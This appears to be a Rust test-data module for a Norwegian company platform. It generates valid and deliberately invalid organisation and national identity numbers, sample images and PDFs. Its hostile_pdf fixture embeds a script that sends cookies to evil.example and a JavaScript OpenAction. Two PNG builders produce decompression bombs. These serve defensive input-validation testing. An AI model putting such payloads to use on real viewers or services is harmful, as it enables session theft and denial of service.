//! Valid (and deliberately invalid) test data in the formats the platform
//! checks: organisation numbers, national identity numbers, images, PDFs.

use std::io::Cursor;

use hms_proto::companies::v1 as companies;
use image::{DynamicImage, ImageFormat, Rgb, RgbImage};
use rand::Rng;

use crate::fakes::orgs;

const ORG_WEIGHTS: [u32; 8] = [3, 2, 7, 6, 5, 4, 3, 2];
const K1_WEIGHTS: [u32; 9] = [3, 7, 6, 1, 8, 9, 4, 5, 2];
const K2_WEIGHTS: [u32; 10] = [5, 4, 3, 2, 7, 6, 5, 4, 3, 2];

/// Kari Nordmann's NORDMANN BYGG AS as she registers it (the register
/// fake makes her its owner).
pub fn nordmann_bygg() -> companies::RegisterCompanyRequest {
    companies::RegisterCompanyRequest {
        org_number: orgs::NORDMANN_BYGG.to_owned(),
        name: "Nordmann Bygg AS".to_owned(),
        contact: Some(companies::ContactInfo {
            email: "post@nordmannbygg.no".to_owned(),
            phone: "+4791234567".to_owned(),
        }),
        industry: companies::Industry::Construction as i32,
        language: companies::Language::Nb as i32,
    }
}

/// The same registration as the gateway's REST API takes it.
pub fn nordmann_bygg_json() -> serde_json::Value {
    serde_json::json!({
        "org_number": orgs::NORDMANN_BYGG,
        "name": "Nordmann Bygg AS",
        "contact": {"email": "post@nordmannbygg.no", "phone": "+4791234567"},
        "industry": "construction",
    })
}

/// A random valid organisation number.
pub fn org_number() -> String {
    let mut rng = rand::rng();
    loop {
        let mut digits: Vec<u32> = vec![9];
        digits.extend((0..7).map(|_| rng.random_range(0..10)));
        let sum: u32 = digits.iter().zip(ORG_WEIGHTS).map(|(d, w)| d * w).sum();
        let control = (11 - sum % 11) % 11;
        if control < 10 {
            digits.push(control);
            return digits
                .iter()
                .map(|d| char::from_digit(*d, 10).unwrap_or('0'))
                .collect();
        }
    }
}

/// A random valid fødselsnummer (classic control digits), born 1950–1999.
pub fn fodselsnummer() -> String {
    let mut rng = rand::rng();
    loop {
        let day = rng.random_range(1..=28u32);
        let month = rng.random_range(1..=12u32);
        let year = rng.random_range(50..=99u32);
        let individual = rng.random_range(0..=499u32);
        let mut digits = vec![
            day / 10,
            day % 10,
            month / 10,
            month % 10,
            year / 10,
            year % 10,
            individual / 100,
            individual / 10 % 10,
            individual % 10,
        ];
        let k1 = (11
            - digits
                .iter()
                .zip(K1_WEIGHTS)
                .map(|(d, w)| d * w)
                .sum::<u32>()
                % 11)
            % 11;
        if k1 == 10 {
            continue;
        }
        digits.push(k1);
        let k2 = (11
            - digits
                .iter()
                .zip(K2_WEIGHTS)
                .map(|(d, w)| d * w)
                .sum::<u32>()
                % 11)
            % 11;
        if k2 == 10 {
            continue;
        }
        digits.push(k2);
        return digits
            .iter()
            .map(|d| char::from_digit(*d, 10).unwrap_or('0'))
            .collect();
    }
}

/// A valid number with its last digit changed: fails the control check.
pub fn invalid_fodselsnummer() -> String {
    let mut number = fodselsnummer();
    let last = number.pop().and_then(|c| c.to_digit(10)).unwrap_or(0);
    number.push(char::from_digit((last + 1) % 10, 10).unwrap_or('0'));
    number
}

fn picture(width: u32, height: u32) -> DynamicImage {
    DynamicImage::ImageRgb8(RgbImage::from_fn(width, height, |x, y| {
        Rgb([
            (x * 7 % 256) as u8,
            (y * 13 % 256) as u8,
            ((x + y) % 256) as u8,
        ])
    }))
}

/// A JPEG photo carrying an EXIF segment with `marker` in it.
pub fn jpeg_with_exif(width: u32, height: u32, marker: &[u8]) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    picture(width, height)
        .write_to(&mut out, ImageFormat::Jpeg)
        .expect("encode a JPEG");
    let jpeg = out.into_inner();
    let mut payload = b"Exif\0\0MM\0*\0\0\0\x08".to_vec();
    payload.extend_from_slice(marker);
    let length = u16::try_from(payload.len() + 2).expect("a short marker");
    let mut with_exif = jpeg[..2].to_vec();
    with_exif.extend_from_slice(&[0xFF, 0xE1]);
    with_exif.extend_from_slice(&length.to_be_bytes());
    with_exif.extend_from_slice(&payload);
    with_exif.extend_from_slice(&jpeg[2..]);
    with_exif
}

pub fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    picture(width, height)
        .write_to(&mut out, ImageFormat::Png)
        .expect("encode a PNG");
    out.into_inner()
}

/// A PNG with an alpha channel, cheap to send (flat regions compress) and
/// as costly to decode as any image of its size: what a bomb within the
/// limits looks like.
pub fn png_rgba(width: u32, height: u32) -> Vec<u8> {
    let image = image::RgbaImage::from_fn(width, height, |x, y| {
        image::Rgba([(x / 64 % 256) as u8, (y / 64 % 256) as u8, 128, 255])
    });
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageRgba8(image)
        .write_to(&mut out, ImageFormat::Png)
        .expect("encode a PNG");
    out.into_inner()
}

/// A minimal but complete PDF.
pub fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
}

/// A PDF that is also an HTML page with a script, runs JavaScript when
/// opened (`/OpenAction`), and names a person by number in its metadata:
/// what a viewer must never be handed.
pub fn hostile_pdf(national_id: &str) -> Vec<u8> {
    format!(
        "%PDF-1.7\n<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>\n\
         1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n\
         2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n\
         3 0 obj << /S /JavaScript /JS (app.launchURL('https://evil.example/', true);) >> endobj\n\
         4 0 obj << /Author ({national_id}) /Producer (hostile) >> endobj\n\
         trailer << /Root 1 0 R /Info 4 0 R >>\n%%EOF\n"
    )
    .into_bytes()
}

/// A valid PNG of 1×1 pixel whose header declares `width`×`height`: a small
/// file that would take gigabytes to decode.
pub fn png_declaring(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = png(1, 1);
    // IHDR's width and height sit at bytes 16..24, its CRC at 29..33.
    bytes[16..20].copy_from_slice(&width.to_be_bytes());
    bytes[20..24].copy_from_slice(&height.to_be_bytes());
    let crc = crc32(&bytes[12..29]);
    bytes[29..33].copy_from_slice(&crc.to_be_bytes());
    bytes
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for byte in data {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}
